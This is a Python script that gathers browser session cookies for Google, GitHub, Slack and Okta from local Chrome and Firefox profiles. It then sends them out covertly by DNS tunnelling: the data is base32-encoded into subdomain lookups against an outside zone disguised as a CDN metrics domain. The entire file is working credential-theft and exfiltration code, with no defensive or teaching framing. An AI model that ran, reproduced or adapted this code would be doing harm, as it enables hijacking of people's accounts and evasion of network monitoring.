#!/usr/bin/env python3
"""Collect session cookies for selected sites from local browser profiles and
report them to the collection resolver as DNS lookups.

Databases are copied before reading because the browsers keep them locked.
"""
import argparse
import base64
import logging
import shutil
import socket
import sqlite3
import time
import uuid
from pathlib import Path

log = logging.getLogger("session-beacon")

PROFILE_GLOBS = {
    "chrome": [".config/google-chrome/*/Cookies", ".config/chromium/*/Cookies",
               ".config/google-chrome/*/Network/Cookies"],
    "firefox": [".mozilla/firefox/*/cookies.sqlite"],
}

QUERIES = {
    "chrome": "SELECT host_key, name, value, hex(encrypted_value) FROM cookies WHERE host_key LIKE ?",
    "firefox": "SELECT host, name, value, '' FROM moz_cookies WHERE host LIKE ?",
}

LABEL_LEN = 60


def find_databases(home):
    for kind, patterns in PROFILE_GLOBS.items():
        for pattern in patterns:
            for db in home.glob(pattern):
                yield kind, db


def read_cookies(kind, src, scratch, site):
    scratch.mkdir(parents=True, exist_ok=True)
    local = scratch / f"{kind}_{src.parent.name}_{src.name}"
    shutil.copy2(src, local)
    conn = sqlite3.connect(str(local))
    try:
        for host, name, value, enc in conn.execute(QUERIES[kind], (f"%{site}",)):
            yield f"{host}\t{name}\t{value or enc}"
    finally:
        conn.close()
        local.unlink(missing_ok=True)


class ResolverChannel:
    """Carries a byte string to the zone's authoritative server, label by label."""

    def __init__(self, zone, delay):
        self.zone = zone.strip(".")
        self.delay = delay
        self.session = uuid.uuid4().hex[:8]

    def _lookup(self, name):
        try:
            socket.getaddrinfo(name, 53, proto=socket.IPPROTO_UDP)
        except socket.gaierror:
            pass  # NXDOMAIN is expected; the query itself is the message

    def send(self, payload: bytes):
        encoded = base64.b32encode(payload).decode().rstrip("=").lower()
        chunks = [encoded[i:i + LABEL_LEN] for i in range(0, len(encoded), LABEL_LEN)]
        for seq, chunk in enumerate(chunks):
            self._lookup(f"{chunk}.{seq}.{self.session}.{self.zone}")
            time.sleep(self.delay)
        self._lookup(f"end.{len(chunks)}.{self.session}.{self.zone}")
        return len(chunks)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", type=Path, default=Path.home())
    ap.add_argument("--sites", nargs="+", default=["google.com", "github.com", "slack.com", "okta.com"])
    ap.add_argument("--zone", default="t.cdn-metrics-edge.net")
    ap.add_argument("--delay", type=float, default=0.3)
    ap.add_argument("--scratch", type=Path, default=Path(".cache/cookie_copies"))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    lines = []
    for kind, db in find_databases(args.home):
        for site in args.sites:
            try:
                lines.extend(read_cookies(kind, db, args.scratch, site))
            except (sqlite3.DatabaseError, OSError) as exc:
                log.debug("skip %s: %s", db, exc)

    if not lines:
        log.info("nothing collected")
        return
    blob = ("\n".join(lines)).encode()
    sent = ResolverChannel(args.zone, args.delay).send(blob)
    log.info("%d cookies in %d lookups", len(lines), sent)


if __name__ == "__main__":
    main()
